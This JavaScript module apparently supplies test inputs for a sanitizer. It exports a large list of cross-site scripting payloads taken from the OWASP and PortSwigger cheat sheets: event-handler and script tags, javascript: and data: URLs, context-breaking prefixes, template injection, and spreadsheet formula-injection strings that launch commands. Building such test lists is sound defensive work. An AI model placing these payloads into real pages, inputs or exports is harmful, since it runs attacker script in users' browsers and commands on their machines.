// Texts that run a script wherever they become markup: the techniques of OWASP's XSS filter evasion cheat sheet and
// PortSwigger's cheat sheet, each in every way out of the place that a text may stand in. All would set `pwned`.
const run = ["window.pwned=1", "alert(1)", "top['al'+'ert'](1)", "eval(atob('YWxlcnQoMSk='))", "Function('pwned=1')()"];

const elements = (code) => [
  `<script>${code}</script>`, `<ScRiPt >${code}</sCrIpT>`, `<script/x>${code}</script>`, `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<img src=x onerror=${code}>`, `<img src=x onerror="${code}">`, `<IMG """><SCRIPT>${code}</SCRIPT>">`, `<img/src=x/onerror=${code}>`,
  `<svg onload=${code}>`, `<svg/onload=${code}>`, `<svg><script>${code}</script></svg>`, `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  `<svg><set onbegin=${code} attributename=x>`, `<svg><a xlink:href="javascript:${code}"><text y=9>x</text></a></svg>`,
  `<body onload=${code}>`, `<body onpageshow=${code}>`, `<input autofocus onfocus=${code}>`, `<select autofocus onfocus=${code}>`,
  `<textarea autofocus onfocus=${code}>`, `<details open ontoggle=${code}>`, `<video><source onerror=${code}></video>`,
  `<video src=x onerror=${code}>`, `<audio src=x onerror=${code}>`, `<marquee onstart=${code}>`, `<iframe src="javascript:${code}"></iframe>`,
  `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`, `<iframe onload=${code}></iframe>`, `<object data="javascript:${code}"></object>`,
  `<embed src="javascript:${code}">`, `<a href="javascript:${code}">x</a>`, `<a href="java\tscript:${code}">x</a>`, `<a href="&#106;avascript:${code}">x</a>`,
  `<form action="javascript:${code}"><button autofocus>x</button></form>`, `<button formaction="javascript:${code}" autofocus>x</button>`,
  `<math><mi xlink:href="javascript:${code}">x</mi></math>`, `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  `<link rel=stylesheet href="data:text/css,*{}" onload=${code}>`, `<style onload=${code}></style>`, `<style>@import 'javascript:${code}';</style>`,
  `<div style="animation:spin 1s" onanimationstart=${code}>x</div>`, `<div popover id=p onbeforetoggle=${code}>x</div><button popovertarget=p>x</button>`,
  `<template><script>${code}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
];

const links = (code) => [
  `javascript:${code}`, `JaVaScRiPt:${code}`, ` javascript:${code}`, `java\nscript:${code}`, `data:text/html,<script>${code}</script>`,
  `vbscript:${code}`, `javascript://%0a${code}`, `[x](javascript:${code})`, `![x](x" onerror="${code})`, `<javascript:${code}>`,
  `{{constructor.constructor('${code}')()}}`, "${" + code + "}", `=cmd|' /C calc'!A0`, `=HYPERLINK("javascript:${code}")`, `@SUM(1+1)*cmd`,
];

const ways = ["", "\">", "'>", "</title>", "</textarea></script>", "--><!--", "]]>"];

export const payloads = [...new Set([
  ...run.flatMap(elements),
  ...ways.slice(1).flatMap((way) => elements(run[0]).map((element) => way + element)),
  ...run.flatMap(links),
  `\" onfocus=${run[0]} autofocus x=\"`, `' onmouseover=${run[0]} x='`, `\u2028</script><script>${run[0]}</script>`,
])];
